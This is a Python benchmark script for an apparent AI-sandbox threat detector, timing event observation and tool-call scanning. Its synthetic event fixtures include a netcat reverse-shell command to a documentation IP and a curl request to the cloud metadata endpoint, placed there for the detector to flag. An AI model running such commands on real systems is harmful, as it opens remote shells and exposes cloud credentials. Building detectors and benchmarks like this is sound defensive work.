#!/usr/bin/env python3
"""Detection throughput on one core: events/s through the full built-in pack, tool calls/s through scan.

    .venv/bin/python benchmarks/bench_detect.py [--rounds 5]

Prints medians over rounds and ratios against baselines measured in the same run:
``flat()`` alone (the unavoidable cost of turning an Event into a record) for events,
and the shell analyser alone for tool calls. Targets: 50,000 events/s, 5,000 calls/s.
Rates are per second of this process's CPU time (``time.process_time``), pinned to one
core, so other work on a shared machine does not count against them; on a busy machine
the ratios are the figures to compare.

Tool calls are measured twice: each command once through a fresh detector (no memo can
help: the figure to quote) and the same commands again (training repeats commands, and
hits are memoised by command text).
"""

from __future__ import annotations

import argparse
import json
import os
import statistics
import time
from collections.abc import Callable
from pathlib import Path

from corral.cli._scan import scan_lines
from corral.detect import Detector, analyze
from corral.events import DnsQuery, Event, NetworkConnection, ProcessStart, ResourceSample, TraceContext

ROOT = Path(__file__).resolve().parent.parent


def _events(n: int, unique: bool = False, t0_s: int = 0) -> list[Event]:
    ctx = TraceContext(run_id="r1", step=10, episode_id="e1", turn=2, tool_call_id="tc1")
    cmds = [
        ["python3", "-m", "pytest", "-q", "tests/"],
        ["git", "status", "--short"],
        ["/usr/bin/gcc", "-O2", "-o", "main", "main.c"],
        ["pip", "install", "-r", "requirements.txt"],
        ["ls", "-la", "/workspace"],
        ["bash", "-c", "make -j4 && ./run_tests.sh"],
        ["nc", "-e", "/bin/sh", "203.0.113.5", "4444"],
        ["curl", "-s", "http://169.254.169.254/latest/meta-data/"],
        ["python3", "-c", "import os; print(os.getcwd())"],
        ["sed", "-i", "s/a/b/", "src/x.py"],
    ]
    out: list[Event] = []
    for i in range(n):
        k = i % 20
        if k < 10:
            argv = [*cmds[k][:-1], cmds[k][-1] + (f" #{i}" if unique else "")]
            data: object = ProcessStart(
                ProcessId=1000 + i,
                Image="/usr/bin/" + argv[0].rsplit("/", 1)[-1],
                CommandLine=" ".join(argv),
                argv=argv,
            )
        elif k < 15:
            data = NetworkConnection(
                Protocol="tcp",
                DestinationIp=f"10.0.{i % 250}.{k}",
                DestinationPort=443 + k,
                decision="denied",
            )
        elif k < 18:
            data = DnsQuery(QueryName=f"h{i % 97}.pypi.org", decision="allowed")
        else:
            data = ResourceSample(cpu_time_s=0.1, memory_bytes=10_000_000, pids=3)
        out.append(
            Event(time_ns=1_000_000_000 * (t0_s + i // 100), sandbox_id=f"sb{i % 64}", ctx=ctx, data=data)
        )  # type: ignore[arg-type]
    return out


def _rate(fn: Callable[[int], int], rounds: int) -> float:
    rates = []
    for r in range(rounds):
        t = time.process_time()
        n = fn(r)
        rates.append(n / (time.process_time() - t))
    return statistics.median(rates)


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--rounds", type=int, default=5)
    args = ap.parse_args()
    if hasattr(os, "sched_setaffinity"):
        os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})  # one core
    det = Detector.builtin()
    print(f"rules: {len(det.rules)} loaded, {len(det.load_report.problems)} not loaded")

    # Each round's events are later in time than the last round's, as a live stream would be.
    rounds = [_events(20_000, t0_s=1000 * r) for r in range(args.rounds)]
    flat_rate = _rate(lambda r: sum(1 for e in rounds[r] if e.flat()), args.rounds)
    obs_rate = _rate(lambda r: sum(1 for e in rounds[r] if det.observe(e) is not None), args.rounds)
    print(
        f"events: observe {obs_rate:,.0f}/s (target 50,000)  flat() alone {flat_rate:,.0f}/s  "
        f"ratio observe/flat {obs_rate / flat_rate:.2f}"
    )
    det = Detector.builtin()  # fresh state and cache
    fresh = [_events(20_000, unique=True, t0_s=1000 * r) for r in range(args.rounds)]  # no cache hits
    uniq_rate = _rate(lambda r: sum(1 for e in fresh[r] if det.observe(e) is not None), args.rounds)
    print(
        f"events, all payloads distinct: observe {uniq_rate:,.0f}/s  "
        f"ratio to repeated {uniq_rate / obs_rate:.2f}"
    )

    items = [json.loads(x) for x in (ROOT / "tests/data/detect/eval.jsonl").read_text().splitlines()]
    calls = [x["command"] for x in items]
    lines = [json.dumps({"id": i, "command": c}) for i, c in enumerate(calls)]
    analyze_rate = _rate(lambda r: sum(1 for c in calls if analyze(c)), args.rounds)
    fresh_dets = [Detector.builtin() for _ in range(args.rounds)]  # no memo carried between rounds
    scan_rate = _rate(lambda r: sum(1 for _ in scan_lines(fresh_dets[r], lines)), args.rounds)
    print(
        f"tool calls ({len(calls)} distinct, half attacks): scan {scan_rate:,.0f}/s (target 5,000)  "
        f"analyser alone {analyze_rate:,.0f}/s  ratio scan/analyse {scan_rate / analyze_rate:.2f}"
    )
    benign = [json.dumps({"command": x["command"]}) for x in items if x["label"] == "benign"]
    benign_calls = [x["command"] for x in items if x["label"] == "benign"]
    b_an = _rate(lambda r: sum(1 for c in benign_calls if analyze(c)), args.rounds)
    fresh_dets = [Detector.builtin() for _ in range(args.rounds)]
    b_scan = _rate(lambda r: sum(1 for _ in scan_lines(fresh_dets[r], benign)), args.rounds)
    print(f"  benign only: scan {b_scan:,.0f}/s  analyser alone {b_an:,.0f}/s  ratio {b_scan / b_an:.2f}")
    warm = Detector.builtin()
    for _ in scan_lines(warm, lines):
        pass
    again = _rate(lambda r: sum(1 for _ in scan_lines(warm, lines)), args.rounds)
    print(f"  the same commands again (memoised hits): scan {again:,.0f}/s  ratio {again / scan_rate:.1f}")
    bench_startup(args.rounds)


def bench_startup(rounds: int) -> None:
    """Rule-set load with and without the disk cache, and a whole-process `corral scan` of one line."""
    import subprocess
    import sys
    import tempfile

    from corral.detect import _ruleset

    with tempfile.TemporaryDirectory() as home:
        os.environ["CORRAL_HOME"] = home
        cold, warm = [], []
        for _ in range(rounds):
            for d in Path(home).glob("cache/rules/*.json"):
                d.unlink()
            _ruleset._in_process.cache_clear()
            t = time.perf_counter()
            Detector.builtin()
            cold.append(time.perf_counter() - t)
            _ruleset._in_process.cache_clear()
            t = time.perf_counter()
            Detector.builtin()
            warm.append(time.perf_counter() - t)
        c, w = statistics.median(cold), statistics.median(warm)
        print(f"rules load: YAML {c * 1000:.0f} ms, disk cache {w * 1000:.0f} ms, ratio {c / w:.1f}x")
        cmd = [sys.executable, "-c", "from corral.cli import main; main()", "scan", "-"]
        bare = [sys.executable, "-c", "import corral.detect"]
        scan_t, imp_t = [], []
        for _ in range(rounds):
            t = time.perf_counter()
            subprocess.run(cmd, input="ls -la\n", capture_output=True, text=True, check=True)
            scan_t.append(time.perf_counter() - t)
            t = time.perf_counter()
            subprocess.run(bare, check=True)
            imp_t.append(time.perf_counter() - t)
        st_, it = statistics.median(scan_t), statistics.median(imp_t)
        print(
            f"`corral scan` of one line, whole process: {st_:.2f} s; `import corral.detect` alone {it:.2f} s"
        )


if __name__ == "__main__":
    main()
